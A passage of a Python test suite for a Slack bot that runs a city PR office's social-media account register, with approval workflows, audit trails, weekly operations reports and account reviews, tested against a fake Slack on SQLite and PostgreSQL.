"""The account register and the operations report, as the PR office lives them — through signed
requests to the running bot, answers read back from the fake Slack, on SQLite and PostgreSQL."""

import csv
import io
import json
import subprocess
import sys
import threading
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

from sqlalchemy import select

from bot.__main__ import main
from bot.handlers.account_ids import AccountAction
from bot.handlers.comment_ids import CommentAction
from bot.handlers.proposal_ids import ProposalAction
from bot.workflows.accounts.models import AccountChange, AccountReview, RegisterAccount, Report
from bot.workflows.accounts.rules import ReviewDecision
from bot.workflows.accounts.service import AccountService
from bot.workflows.audit import events_for
from bot.workflows.proposals.models import Publication
from tests.comments_support import message_showing, receive
from tests.conftest import ROOT, TEST_START, test_environ
from tests.emergency_support import declare
from tests.harness.db_hold import Hold
from tests.test_comments_slack import hiding_request_message, request_hiding
from tests.test_proposals import click, form_values, latest_proposal, request_message
from tests.test_proposals_lifecycle import approve_all, hand_off_message, record_publication

TOKYO = ZoneInfo("Asia/Tokyo")
NEW_ACCOUNT = {
    "account_id": {"account_id": "kensetsu-x"},
    "platform": {"platform": "x"},
    "name": {"name": "千葉市 建設局 道路情報"},
    "handle": {"handle": "@chiba_douro"},
    "url": {"url": "https://x.com/chiba_douro"},
    "kind": {"kind": "subject"},
    "department_id": {"department_id": "kensetsu"},
    "manager": {"manager": "U0KENSETSUHEAD"},
    "operators": {"operators": ["U0KENSETSU1", "U0KENSETSU2"]},
    "purpose": {"purpose": "道路工事・通行止めのお知らせ"},
    "password_changed_on": {"password_changed_on": "2026-11-20"},
}


def texts(message):
    return json.dumps(message.get("blocks") or [], ensure_ascii=False) + message.get("text", "")


def ephemeral(koho, user, count=1):
    koho.fake.wait_for("response_url", count=count, predicate=lambda c: c.args.get("response_type") == "ephemeral")
    return koho.fake.ephemerals(user)[-1]


def account_list(koho, user="U0PR1", count=1):
    assert koho.slack.command("/koho", "accounts", user_id=user, channel_id="C0PR").status == 200
    return ephemeral(koho, user, count)


def open_add_form(koho, user="U0PR1"):
    assert koho.slack.command("/koho", "accounts add", user_id=user, channel_id="C0PR").status == 200
    koho.fake.wait_for("views.open", predicate=lambda c: c.ok and c.args["view"]["callback_id"] == "account_form")
    return next(v for v in reversed(koho.fake.open_views(user)) if v["callback_id"] == "account_form")


def posted(koho, channel, fragment, count=1):
    koho.fake.wait_for("chat.postMessage", channel=channel, count=count,
                       predicate=lambda c: c.ok and fragment in texts(c.args))
    return [m for m in koho.fake.messages(channel) if fragment in texts(m)][-1]


def current(koho, message):
    return koho.fake.message(message["channel"], message["ts"])


def updated(koho, message, fragment):
    koho.fake.wait_for("chat.update", channel=message["channel"],
                       predicate=lambda c: c.ok and c.args.get("ts") == message["ts"] and fragment in texts(c.args))
    return current(koho, message)


def open_form(koho, user="U0STAFF1"):
    """/propose-post's modal (waiting for that modal, whatever else was opened before)."""
    before = len([c for c in koho.fake.calls_to("views.open") if c.args["view"]["callback_id"] == "proposal_form"])
    koho.slack.command("/propose-post", "", user_id=user)
    koho.fake.wait_for("views.open", count=before + 1,
                       predicate=lambda c: c.ok and c.args["view"]["callback_id"] == "proposal_form")
    return next(v for v in reversed(koho.fake.open_views(user)) if v["callback_id"] == "proposal_form")


def propose(koho, user="U0STAFF1", **values):
    response = koho.slack.view_submission(user, open_form(koho, user), form_values(**values))
    assert response.status == 200 and response.body == "", response.body
    return latest_proposal(koho)


def account_options(view):
    block = next(b for b in view["blocks"] if b.get("block_id") == "accounts")
    return [o["value"] for o in block["element"]["options"]]


def reject(koho, user, request, reason):
    """却下: the button opens a modal asking why; returns the submission's response."""
    before = len([c for c in koho.fake.calls_to("views.open") if c.ok
                  and c.args["view"]["callback_id"] == "account_change_reject_reason"])
    click(koho, user, request, AccountAction.REJECT_CHANGE)
    koho.fake.wait_for("views.open", count=before + 1, predicate=lambda c: c.ok
                       and c.args["view"]["callback_id"] == "account_change_reject_reason")
    modal = next(v for v in reversed(koho.fake.open_views(user)) if v["callback_id"] == "account_change_reject_reason")
    return koho.slack.view_submission(user, modal, {"reason": {"reason": reason}}, strict=False)


def account(koho, account_id):
    with koho.db.read() as session:
        return session.get(RegisterAccount, account_id)


def actions(koho, account_id):
    with koho.db.read() as session:
        return [e.action for e in events_for(session, "account", account_id)]


# -- the register --------------------------------------------------------------------------------


def test_the_register_is_seeded_from_the_organisation_file_once(koho):
    city_x = account(koho, "city-x")
    assert city_x.operators == ["U0PRSTAFF1", "U0PRSTAFF2"] and city_x.kind == "main" and city_x.source == "seed"
    assert city_x.password_changed_on == date(2026, 10, 1) and city_x.status == "active"
    assert account(koho, "kankyo-instagram").kind == "subject"
    from bot.workflows.accounts.service import seed

    assert seed(koho.db, koho.services.org, koho.clock) == 0  # a restart adds nothing, overwrites nothing
    assert actions(koho, "city-x") == ["account.seeded"]


def test_accounts_lists_status_activity_and_warnings(koho):
    shown = account_list(koho)
    by_block = {b.get("block_id"): json.dumps(b, ensure_ascii=False) for b in shown["blocks"]}
    assert "千葉市 公式X" in by_block["account:city-x"] and "運用中" in by_block["account:city-x"]
    assert ":warning:" not in by_block["account:city-x"]  # two operators, recent password and review
    line = by_block["account:city-line"]
    assert "運用者が2人未満" in line and "パスワードが90日以上未変更" in line and "365日以上 継続/撤退の見直しなし" in line
    kankyo = by_block["account:kankyo-instagram"]
    assert "パスワードが90日以上未変更" in kankyo and "運用者が2人未満" not in kankyo
    assert "account_edit" in by_block["account:city-x"] and "accounts:add" in by_block

    staff_view = account_list(koho, "U0STAFF1", count=2)  # anyone may read the register; not change it
    assert "account_edit" not in json.dumps(staff_view["blocks"]) and "千葉市 LINE" in texts(staff_view)


def test_only_the_pr_office_may_open_the_form(koho):
    koho.slack.command("/koho", "accounts add", user_id="U0STAFF1")
    assert "広報広聴課の承認者（または管理者）のみ" in ephemeral(koho, "U0STAFF1")["text"]
    assert not koho.fake.calls_to("views.open")


def test_the_form_reports_each_mistake_on_its_field(koho):
    view = open_add_form(koho)
    wrong = {**NEW_ACCOUNT, "account_id": {"account_id": "city-x"}, "url": {"url": "ftp://example.jp"},
             "operators": {"operators": ["U0KENSETSUHEAD", "U0KENSETSU1"]},
             "password_changed_on": {"password_changed_on": "2027-01-01"}}
    response = koho.slack.view_submission("U0PR1", view, wrong)
    errors = response.json()["errors"]
    assert errors["account_id"] == "ID「city-x」は既に使われています"
    assert "http://" in errors["url"] and "管理者（所属長）とは別の人" in errors["operators"]
    assert errors["password_changed_on"] == "未来の日付は入力できません"
    response = koho.slack.view_submission("U0PR1", view, {**NEW_ACCOUNT, "account_id": {"account_id": "Kensetsu X"}})
    assert "半角英小文字" in response.json()["errors"]["account_id"]
    with koho.db.read() as session:
        assert session.query(AccountChange).count() == 0


def test_a_handle_and_an_address_typed_in_full_width_are_saved_half_width_or_asked_again(koho):
    view = open_add_form(koho)
    # The path is never rewritten (it may be width-sensitive): full-width letters in it are asked again, in words
    # that say half-width; an IME's full-width scheme and host are simply read as what they mean.
    typed = {**NEW_ACCOUNT, "handle": {"handle": "＠ｃｈｉｂａ＿ｄｏｕｒｏ"}, "url": {"url": "https://x.com/ｃｈｉｂａ"},
             "policy_url": {"policy_url": "ｈｔｔｐｓ：／／ｗｗｗ．ｃｉｔｙ．ｃｈｉｂａ．ｊｐ/koho/Policy.html"}}
    errors = koho.slack.view_submission("U0PR1", view, typed).json()["errors"]
    assert errors == {"url": "半角の http:// または https:// で始まるURLを入力してください（全角の英数字は使えません）"}
    response = koho.slack.view_submission("U0PR1", view, {**typed, "url": {"url": "ｈｔｔｐｓ://ｘ．ｃｏｍ/chiba_douro"}})
    assert response.json()["response_action"] == "update"
    with koho.db.read() as session:
        change = session.query(AccountChange).one()
    assert change.payload["handle"] == "@chiba_douro" and change.payload["url"] == "https://x.com/chiba_douro"
    assert change.payload["policy_url"] == "https://www.city.chiba.jp/koho/Policy.html"


def test_opening_an_account_waits_for_another_pr_office_approver(koho):
    view = open_add_form(koho)
    response = koho.slack.view_submission("U0PR1", view, NEW_ACCOUNT)
    assert response.status == 200 and response.json()["response_action"] == "update"
    assert "開設申請（kensetsu-x）を広報広聴課に送りました" in json.dumps(response.json()["view"], ensure_ascii=False)
    request = posted(koho, "C0PR", "アカウント開設申請")
    assert "千葉市 建設局 道路情報" in texts(request) and "<@U0KENSETSU1>" in texts(request)
    assert account(koho, "kensetsu-x") is None  # not in the register until approved

    click(koho, "U0PR1", request, AccountAction.APPROVE_CHANGE)  # the requester cannot approve it
    assert "自分の申請は承認・却下できません" in ephemeral(koho, "U0PR1")["text"]
    click(koho, "U0KENSETSUHEAD", request, AccountAction.APPROVE_CHANGE)  # nor someone outside the PR office
    assert "広報広聴課の承認者" in ephemeral(koho, "U0KENSETSUHEAD", count=2)["text"]
    assert account(koho, "kensetsu-x") is None

    click(koho, "U0PR2", request, AccountAction.APPROVE_CHANGE)
    assert "開設申請（kensetsu-x）を承認しました" in ephemeral(koho, "U0PR2", count=3)["text"]
    opened = account(koho, "kensetsu-x")
    assert (opened.status, opened.source, opened.department_id) == ("active", "slack", "kensetsu")
    assert opened.operators == ["U0KENSETSU1", "U0KENSETSU2"] and opened.opened_on == date(2026, 11, 24)
    assert opened.password_changed_on == date(2026, 11, 20)
    shown = updated(koho, request, "が承認しました")
    assert "account_change_approve" not in json.dumps(shown["blocks"])
    koho.fake.wait_for("chat.postMessage", channel="U0PR1", predicate=lambda c: c.ok and "承認されました" in c.args["text"])
    assert actions(koho, "kensetsu-x") == ["account.change_requested", "account.change_refused",
                                           "account.change_refused", "account.change_approved", "account.opened"]

    offered = account_options(open_form(koho, "U0KENSETSU1"))
    assert offered == ["city-x", "city-line", "kankyo-instagram", "kensetsu-x"]  # it takes posts now

    # A click from a stale copy of the message (the buttons are gone now) changes nothing.
    koho.slack.block_action("U0PR2", AccountAction.REJECT_CHANGE, "1", message=request, strict=False)
    assert "既に決定済み" in ephemeral(koho, "U0PR2", count=4)["text"]
    assert account(koho, "kensetsu-x").status == "active"


def test_withdrawing_by_command_waits_for_approval_and_a_rejection_keeps_the_account(koho):
    koho.slack.command("/koho", "accounts withdraw kankyo-instagram 投稿がなく運用終了", user_id="U0STAFF1")
    assert "広報広聴課の承認者" in ephemeral(koho, "U0STAFF1")["text"]
    koho.slack.command("/koho", "accounts withdraw kankyo-instagram 投稿がなく運用終了", user_id="U0PR1")
    assert "撤退申請（kankyo-instagram）" in ephemeral(koho, "U0PR1", count=2)["text"]
    koho.slack.command("/koho", "accounts withdraw kankyo-instagram", user_id="U0PR2")
    assert "承認待ちの申請があります" in ephemeral(koho, "U0PR2", count=3)["text"]  # one pending change at a time
    request = posted(koho, "C0PR", "アカウント撤退申請")
    assert "投稿がなく運用終了" in texts(request)
    click(koho, "U0PR1", request, AccountAction.REJECT_CHANGE)  # the requester: refused before any modal
    assert "自分の申請は承認・却下できません" in ephemeral(koho, "U0PR1", count=4)["text"]
    reject(koho, "U0PR2", request, "防災情報の発信に使うため継続")
    updated(koho, request, "が却下しました")
    assert account(koho, "kankyo-instagram").status == "active"
    assert actions(koho, "kankyo-instagram")[-3:] == ["account.change_requested", "account.change_refused",
                                                       "account.change_rejected"]


def test_a_rejected_opening_leaves_nothing_in_the_register(koho):
    koho.slack.view_submission("U0PR1", open_add_form(koho), NEW_ACCOUNT)
    request = posted(koho, "C0PR", "アカウント開設申請")
    assert reject(koho, "U0PR2", request, "  ").json()["errors"]["reason"] == "却下の理由を入力してください"
    assert reject(koho, "U0PR2", request, "既存の建設局アカウントで足ります").body == ""
    shown = updated(koho, request, "が却下しました")
    assert "既存の建設局アカウントで足ります" in texts(shown)
    koho.fake.wait_for("chat.postMessage", channel="U0PR1",
                       predicate=lambda c: c.ok and "既存の建設局アカウントで足ります" in c.args["text"])
    assert account(koho, "kensetsu-x") is None
    with koho.db.read() as session:
        (change,) = session.query(AccountChange).all()
        assert (change.status, change.decided_by, change.pending_key) == ("rejected", "U0PR2", None)
        assert change.decision_reason == "既存の建設局アカウントで足ります"


def test_editing_applies_at_once_and_a_new_department_is_a_hand_over(koho):
    shown = account_list(koho)
    koho.slack.block_action("U0PR1", AccountAction.EDIT, message=shown, block_id="account:city-x")
    koho.fake.wait_for("views.open", predicate=lambda c: c.ok)
    form = koho.fake.last_view("U0PR1")
    by_id = {b["block_id"]: b for b in form["blocks"] if b["type"] == "input"}
    assert "account_id" not in by_id  # the id never changes
    assert by_id["operators"]["element"]["initial_users"] == ["U0PRSTAFF1", "U0PRSTAFF2"]

    response = koho.slack.view_submission("U0PR1", form, {"purpose": {"purpose": "市政情報と災害情報"},
                                                          "password_changed_on": {"password_changed_on": "2026-11-23"}})
    assert "保存しました" in json.dumps(response.json()["view"], ensure_ascii=False)
    city_x = account(koho, "city-x")
    assert city_x.purpose == "市政情報と災害情報" and city_x.password_changed_on == date(2026, 11, 23)
    with koho.db.read() as session:
        edited = [e for e in events_for(session, "account", "city-x") if e.action == "account.edited"][0]
        assert edited.actor == "U0PR1" and edited.details["changes"]["password_changed_on"] == ["2026-10-01",
                                                                                                   "2026-11-23"]

    stale = koho.slack.view_submission("U0PR1", form, {"purpose": {"purpose": "古い画面からの変更"}})
    assert "その間に他の人が" in stale.json()["errors"]["name"]  # the form was opened before the first save

    koho.slack.block_action("U0PR1", AccountAction.EDIT, message=account_list(koho, count=2), block_id="account:city-x")
    koho.fake.wait_for("views.open", count=2, predicate=lambda c: c.ok)
    form = koho.fake.last_view("U0PR1")
    response = koho.slack.view_submission("U0PR1", form, {"department_id": {"department_id": "kankyo"}})
    assert "移管申請（city-x）" in json.dumps(response.json()["view"], ensure_ascii=False)
    assert account(koho, "city-x").department_id == "pr_office"
    request = posted(koho, "C0PR", "アカウント移管申請")
    assert "広報広聴課 → *環境局*" in texts(request)
    click(koho, "U0PR2", request, AccountAction.APPROVE_CHANGE)
    updated(koho, request, "が承認しました")
    assert account(koho, "city-x").department_id == "kankyo"
    assert "account.handed_over" in actions(koho, "city-x")


def open_edit_form(koho, user, account_id="city-x"):
    """編集 on the register's list: the account's modal as `user` sees it now."""
    lists = len(koho.fake.calls_to("response_url", predicate=lambda c: c.args.get("response_type") == "ephemeral"))
    shown = account_list(koho, user, count=lists + 1)
    opened = len(koho.fake.calls_to("views.open", predicate=lambda c: c.ok))
    koho.slack.block_action(user, AccountAction.EDIT, message=shown, block_id=f"account:{account_id}")
    koho.fake.wait_for("views.open", count=opened + 1, predicate=lambda c: c.ok)
    return koho.fake.last_view(user)


def history(koho, account_id):
    """The account's audit trail after its seeding: (action, actor, details)."""
    with koho.db.read() as session:
        return [(e.action, e.actor, e.details) for e in events_for(session, "account", account_id)][1:]


def test_approving_a_hand_over_moves_the_department_and_keeps_what_was_saved_while_it_waited(koho):
    """U0PR1 asks to hand city-x over to 環境局. While it waits, an admin changes its purpose and operators
    (saved at once). U0PR2 approves: the department moves, and the admin's edit stays as it was saved."""
    response = koho.slack.view_submission("U0PR1", open_edit_form(koho, "U0PR1"),
                                          {"department_id": {"department_id": "kankyo"}})
    assert "移管申請（city-x）" in json.dumps(response.json()["view"], ensure_ascii=False)
    request = posted(koho, "C0PR", "アカウント移管申請")

    response = koho.slack.view_submission("U0ADMIN1", open_edit_form(koho, "U0ADMIN1"), {
        "purpose": {"purpose": "環境イベントの告知"}, "operators": {"operators": ["U0STAFF1", "U0STAFF2"]}})
    assert "保存しました" in json.dumps(response.json()["view"], ensure_ascii=False)
    assert account(koho, "city-x").department_id == "pr_office"  # the hand-over still waits

    click(koho, "U0PR2", request, AccountAction.APPROVE_CHANGE)
    updated(koho, request, "が承認しました")
    city_x = account(koho, "city-x")
    assert (city_x.department_id, city_x.purpose, city_x.operators) == (
        "kankyo", "環境イベントの告知", ["U0STAFF1", "U0STAFF2"])
    assert city_x.manager == "U0PR1"  # nobody changed it: the hand-over did not either
    assert history(koho, "city-x") == [  # every change on the record, each as it was made
        ("account.change_requested", "U0PR1", {"change": 1, "kind": "handover", "from_department": "pr_office",
                                               "to_department": "kankyo"}),
        ("account.edited", "U0ADMIN1", {"changes": {
            "operators": [["U0PRSTAFF1", "U0PRSTAFF2"], ["U0STAFF1", "U0STAFF2"]],
            "purpose": ["市政情報・イベント・災害時の情報発信", "環境イベントの告知"]}}),
        ("account.change_approved", "U0PR2", {"change": 1, "kind": "handover"}),
        ("account.handed_over", "U0PR2", {"change": 1, "from_department": "pr_office", "to_department": "kankyo"}),
    ]


def test_a_hand_over_from_a_form_opened_before_someone_elses_save_is_refused(koho):
    stale = open_edit_form(koho, "U0PR1")
    response = koho.slack.view_submission("U0ADMIN1", open_edit_form(koho, "U0ADMIN1"),
                                          {"purpose": {"purpose": "環境イベントの告知"}})
    assert "保存しました" in json.dumps(response.json()["view"], ensure_ascii=False)

    # U0PR1's form still shows the old purpose: asking for a hand-over from it is refused like a stale save.
    refused = koho.slack.view_submission("U0PR1", stale, {"department_id": {"department_id": "kankyo"}})
    assert refused.json()["errors"]["name"] == ("その間に他の人がこのアカウントを変更しました。"
                                                "一覧を開き直してから編集してください。")
    with koho.db.read() as session:
        assert session.query(AccountChange).count() == 0
    assert account(koho, "city-x").purpose == "環境イベントの告知"
    assert [action for action, _, _ in history(koho, "city-x")] == ["account.edited"]

    response = koho.slack.view_submission("U0PR1", open_edit_form(koho, "U0PR1"),
                                          {"department_id": {"department_id": "kankyo"}})
    assert "移管申請（city-x）" in json.dumps(response.json()["view"], ensure_ascii=False)  # from a fresh form


def test_a_hand_over_carries_only_the_department_and_the_other_changes_of_its_form_are_saved_at_once(koho):
    """The form says so: a new department waits for the PR office, the other fields apply at once."""
    response = koho.slack.view_submission("U0PR1", open_edit_form(koho, "U0PR1"), {
        "department_id": {"department_id": "kankyo"}, "purpose": {"purpose": "環境イベントの告知"}})
    assert ("「千葉市 公式X」の変更を保存し、移管申請（city-x）を広報広聴課に送りました"
            in json.dumps(response.json()["view"], ensure_ascii=False))
    city_x = account(koho, "city-x")
    assert (city_x.department_id, city_x.purpose) == ("pr_office", "環境イベントの告知")
    with koho.db.read() as session:
        (change,) = session.query(AccountChange).all()
        assert change.payload == {"department_id": "kankyo"}
    request = posted(koho, "C0PR", "アカウント移管申請")
    assert "広報広聴課 → *環境局*" in texts(request) and "環境イベントの告知" not in texts(request)
    assert history(koho, "city-x") == [
        ("account.edited", "U0PR1", {"changes": {"purpose": ["市政情報・イベント・災害時の情報発信", "環境イベントの告知"]}}),
        ("account.change_requested", "U0PR1", {"change": 1, "kind": "handover", "from_department": "pr_office",
                                               "to_department": "kankyo"}),
    ]

    # While it waits, a form asking for another department (with another change) is refused whole.
    response = koho.slack.view_submission("U0PR2", open_edit_form(koho, "U0PR2"), {
        "department_id": {"department_id": "kensetsu"}, "posting_hours": {"posting_hours": "平日 9時〜17時"}})
    assert "承認待ちの申請があります" in response.json()["errors"]["name"]
    assert account(koho, "city-x").posting_hours is None

    reject(koho, "U0PR2", request, "移管先と調整中のため")
    updated(koho, request, "が却下しました")
    city_x = account(koho, "city-x")
    assert (city_x.department_id, city_x.purpose) == ("pr_office", "環境イベントの告知")


def test_a_hand_over_requested_before_the_fix_still_moves_only_the_department(koho):
    """Such a request stored its whole form; approving it must not write that form back either."""
    koho.slack.view_submission("U0PR1", open_edit_form(koho, "U0PR1"), {"department_id": {"department_id": "kankyo"}})
    request = posted(koho, "C0PR", "アカウント移管申請")
    with koho.db.transaction() as session:  # as the previous version stored it
        (change,) = session.query(AccountChange).all()
        form = {"platform": "x", "name": "千葉市 公式X", "handle": "@chiba_city", "url": "https://x.com/chiba_city",
                "kind": "main", "department_id": "kankyo", "manager": "U0PR1", "operators": ["U0PRSTAFF1", "U0PRSTAFF2"],
                "purpose": "市政情報・イベント・災害時の情報発信", "audience": None, "posting_hours": None,
                "policy_url": None, "password_changed_on": "2026-10-01"}
        change.payload = form
    koho.slack.view_submission("U0ADMIN1", open_edit_form(koho, "U0ADMIN1"), {"purpose": {"purpose": "環境イベントの告知"}})
    click(koho, "U0PR2", request, AccountAction.APPROVE_CHANGE)
    updated(koho, request, "が承認しました")
    city_x = account(koho, "city-x")
    assert (city_x.department_id, city_x.purpose) == ("kankyo", "環境イベントの告知")


# -- the report ----------------------------------------------------------------------------------


def publish_one(koho):
    proposal_id = propose(koho)
    approve_all(koho, proposal_id)
    record_publication(koho, "U0PR1", hand_off_message(koho), "https://x.com/chiba_city/status/1")
    koho.fake.wait_for("chat.update", channel="C0PR", predicate=lambda c: c.ok and "x.com/chiba_city" in texts(c.args))
    return proposal_id


def test_report_on_demand_has_the_figures_and_its_chart_is_uploaded(koho):
    publish_one(koho)
    rejected = propose(koho, "U0STAFF2", text="【お知らせ】却下される投稿")
    click(koho, "U0KANKYOHEAD", request_message(koho, "C0KANKYO", count=2), ProposalAction.REJECT)
    koho.fake.wait_for("views.open", predicate=lambda c: c.ok and c.args["view"]["callback_id"] == "proposal_reason")
    koho.slack.view_submission("U0KANKYOHEAD", koho.fake.last_view("U0KANKYOHEAD"), {"reason": {"reason": "重複"}})
    assert rejected
    receive(koho, "家の前の道路が陥没しています")  # routed to 建設局
    receive(koho, "素敵な写真をありがとう")  # nobody matched: the PR office triages it
    declare(koho, title="総合防災訓練", mode="drill")
    koho.clock.set(datetime(2026, 11, 26, 12, 0, tzinfo=TOKYO))  # Thursday: both comments are past their target

    koho.slack.command("/koho", "report week", user_id="U0STAFF1")  # not the PR office
    assert "広報広聴課の承認者" in ephemeral(koho, "U0STAFF1")["text"]
    koho.slack.command("/koho", "report fortnight", user_id="U0PR1")
    assert "/koho report week" in ephemeral(koho, "U0PR1", count=2)["text"]
    koho.slack.command("/koho", "report week", user_id="U0PR1")
    assert "<#C0PR>" in ephemeral(koho, "U0PR1", count=3)["text"]

    report = posted(koho, "C0PR", "運用レポート（週次）")
    body = texts(report)
    assert "環境局: 2 / 1 / 1 / 1" in body  # proposed / approved / rejected / published
    assert "千葉市 公式X: 2 / 1 / 0 / 1" in body
    assert "所属長承認:" in body and "広報広聴課確認:" in body and "90パーセンタイル" in body
    assert "*市民の声* 2件" in body and "建設局 1" in body and "振り分け待ち 1" in body
    assert "確認期限（1開庁日）超過: 2件" in body
    assert "総合防災訓練（訓練）: 2026年11月24日(火)" in body and "〜 対応中" in body and "チェックリスト 0/" in body
    assert "千葉市 LINE: 運用者が2人未満" in body

    koho.fake.wait_for("files.completeUploadExternal", predicate=lambda c: c.ok)
    (chart,) = koho.fake.uploaded_files("C0PR")
    assert chart["content"].startswith(b"\x89PNG\r\n\x1a\n") and chart["length"] == len(chart["content"])
    assert chart["filename"].startswith("koho-report-week-") and "運用レポートのグラフ" in chart["title"]
    assert "承認件数" in chart["initial_comment"] and chart["alt_txt"]
    from PIL import Image

    with Image.open(io.BytesIO(chart["content"])) as image:
        assert image.size == (960, 480)
    with koho.db.read() as session:
        (saved,) = session.query(Report).all()
        assert (saved.period, saved.requested_by) == ("week", "U0PR1")
        assert [e.action for e in events_for(session, "report", saved.id)] == ["report.posted"]


def test_the_weekly_report_goes_out_once_on_monday_morning(koho):
    koho.clock.set(datetime(2026, 11, 30, 8, 59, tzinfo=TOKYO))
    assert koho.sweep()["accounts.weekly_report"] == 0
    koho.clock.set(datetime(2026, 11, 30, 9, 0, tzinfo=TOKYO))
    assert koho.sweep()["accounts.weekly_report"] == 1
    assert koho.sweep()["accounts.weekly_report"] == 0  # once, however often the sweep runs
    report = posted(koho, "C0PR", "運用レポート（週次）")
    assert "2026年11月23日(月) 00:00 〜 2026年11月30日(月) 00:00" in texts(report)
    koho.fake.wait_for("files.completeUploadExternal", predicate=lambda c: c.ok)
    assert len(koho.fake.uploaded_files("C0PR")) == 1
    koho.clock.set(datetime(2026, 12, 8, 10, 0, tzinfo=TOKYO))  # the bot was down for a whole day: no late report
    assert koho.sweep()["accounts.weekly_report"] == 0


# -- reviews -------------------------------------------------------------------------------------


def review_message(koho, name, count=1):
    return posted(koho, "C0PR", name, count=count) if count else None


def test_quiet_accounts_are_flagged_and_the_pr_office_decides(koho):
    koho.clock.set(TEST_START + timedelta(days=49))  # a Tuesday in January
    publish_one(koho)  # city-x publishes once in the window: too little
    koho.clock.set(TEST_START + timedelta(days=89))
    assert koho.sweep()["accounts.review_candidates"] == 0  # every account is younger than 90 days
    koho.clock.set(TEST_START + timedelta(days=91))
    assert koho.sweep()["accounts.review_candidates"] == 3
    assert koho.sweep()["accounts.review_candidates"] == 0
    koho.fake.wait_for("chat.postMessage", channel="C0PR", count=3,
                       predicate=lambda c: c.ok and "アカウントの見直し" in c.args["text"])
    reviews = {m["text"].split(": ", 1)[1]: m for m in koho.fake.messages("C0PR") if "アカウントの見直し" in m["text"]}
    assert "掲載が1件と少なく" in texts(reviews["千葉市 公式X"])
    assert "掲載された投稿がありません（最終投稿: なし）" in texts(reviews["千葉市 LINE"])
    assert account(koho, "city-line").status == "under_review"

    click(koho, "U0STAFF1", reviews["千葉市 公式X"], AccountAction.REVIEW_CONTINUE)
    assert "広報広聴課の承認者" in ephemeral(koho, "U0STAFF1")["text"]
    click(koho, "U0PR1", reviews["千葉市 公式X"], AccountAction.REVIEW_CONTINUE)
    assert "継続と記録しました" in ephemeral(koho, "U0PR1", count=2)["text"]
    updated(koho, reviews["千葉市 公式X"], "が継続と判断しました")
    city_x = account(koho, "city-x")
    assert city_x.status == "active" and city_x.last_reviewed_on == (TEST_START + timedelta(days=91)).date()

    click(koho, "U0PR1", reviews["千葉市 LINE"], AccountAction.REVIEW_WITHDRAW)
    assert "撤退を申請しました" in ephemeral(koho, "U0PR1", count=3)["text"]
    assert account(koho, "city-line").status == "under_review"  # until another approver approves
    request = posted(koho, "C0PR", "アカウント撤退申請")
    assert "継続/撤退の見直しで撤退と判断" in texts(request)
    click(koho, "U0PR2", request, AccountAction.APPROVE_CHANGE)
    updated(koho, request, "が承認しました")
    line = account(koho, "city-line")
    assert line.status == "withdrawn" and line.withdrawn_at is not None
    assert actions(koho, "city-line")[-5:] == ["account.review_flagged", "account.review_withdraw",
                                                "account.change_requested", "account.change_approved",
                                                "account.withdrawn"]
    with koho.db.read() as session:
        decided = {r.account_id: (r.status, r.decided_by) for r in session.query(AccountReview)}
    assert decided["city-x"] == ("continued", "U0PR1") and decided["city-line"] == ("withdrawal_requested", "U0PR1")
    assert decided["kankyo-instagram"] == ("open", None)

    koho.clock.advance(timedelta(days=1))
    assert koho.sweep()["accounts.review_candidates"] == 0  # reviewed, withdrawn or still open: none again

    form = open_form(koho)  # a withdrawn account takes no new posts
    assert "city-line" not in account_options(form)
    response = koho.slack.view_submission("U0STAFF1", form, form_values(accounts=("city-x",)) | {
        "accounts": {"accounts": {"type": "multi_static_select", "selected_options": [
            {"text": {"type": "plain_text", "text": "x"}, "value": "city-line"}]}}}, strict=False)
    assert "city-line" in response.json()["errors"]["accounts"]



def test_a_review_decided_while_the_account_is_edited_counts_both_changes_in_its_version(koho):
    """U0PR1 decides 継続 on city-x's review as U0ADMIN1 saves an edit. Before, on PostgreSQL the decision read
    the account's version, the edit committed version + 1 beside it, and the decision wrote the same number
    again: a form opened after the edit would not have seen the decision as a change made meanwhile."""
    koho.clock.set(TEST_START + timedelta(days=91))
    assert koho.sweep()["accounts.review_candidates"] == 3
    review = review_message(koho, "千葉市 公式X")
    with koho.db.read() as session:
        review_id = session.scalar(select(AccountReview.id).where(AccountReview.account_id == "city-x"))
    before = account(koho, "city-x").row_version
    form = open_edit_form(koho, "U0ADMIN1")
    service = AccountService(koho.db, koho.services.org, koho.clock)
    hold = Hold(koho.db, at_statement="SELECT accounts.", release_after="UPDATE accounts",
                thread_name="decider")
    decider = threading.Thread(target=service.decide_review, args=("U0PR1", review_id, ReviewDecision.CONTINUE),
                               name="decider")
    try:
        decider.start()
        assert hold.held.wait(10)  # the decision has read the account, and waits
        edit = koho.slack.view_submission("U0ADMIN1", form, {"purpose": {"purpose": "環境イベントの告知"}})
    finally:
        hold.remove()
        decider.join(10)
    edited = "保存しました" in json.dumps(edit.json().get("view"), ensure_ascii=False)
    # SQLite: the decision holds the one writer's turn, the edit runs after it and is refused as stale.
    # PostgreSQL: the two run side by side and both are kept.
    city_x = account(koho, "city-x")
    assert city_x.status == "active" and city_x.last_reviewed_on == (TEST_START + timedelta(days=91)).date()
    assert city_x.purpose == ("環境イベントの告知" if edited else "市政情報・イベント・災害時の情報発信")
    assert city_x.row_version == before + 1 + edited
    updated(koho, review, "が継続と判断しました")

# -- App Home and export -------------------------------------------------------------------------


def test_the_pr_office_home_shows_what_waits_across_departments(koho):
    propose(koho)  # waits for 環境局's approver
    receive(koho, "素敵な写真をありがとう")  # awaiting the PR office's triage
    koho.slack.view_submission("U0PR1", open_add_form(koho), NEW_ACCOUNT)
    posted(koho, "C0PR", "アカウント開設申請")
    koho.slack.app_home_opened("U0PR2")
    koho.fake.wait_for("views.publish", predicate=lambda c: c.ok and c.args["user_id"] == "U0PR2"
                       and "承認待ち（全部署）* 1件" in json.dumps(c.args["view"], ensure_ascii=False)
                       and "振り分け待ちの市民の声* 1件" in json.dumps(c.args["view"], ensure_ascii=False))
    home = json.dumps(koho.fake.home_views["U0PR2"], ensure_ascii=False)
    assert "所属長承認（環境局）" in home and "緊急時対応中* 0件" in home
    assert "開設申請: `kensetsu-x`" in home and "千葉市 LINE: 運用者が2人未満" in home
    koho.slack.app_home_opened("U0STAFF1")
    koho.fake.wait_for("views.publish", predicate=lambda c: c.ok and c.args["user_id"] == "U0STAFF1")
    assert "振り分け待ちの市民の声" not in json.dumps(koho.fake.home_views["U0STAFF1"], ensure_ascii=False)


def run_export(koho, monkeypatch, tmp_path, *args, process=False):
    """`python -m bot export …`: as a process (the real entry point) or in this one (faster)."""
    env = test_environ(koho.fake, koho.settings.database_url)
    if process:
        result = subprocess.run([sys.executable, "-m", "bot", "export", *args], cwd=ROOT,
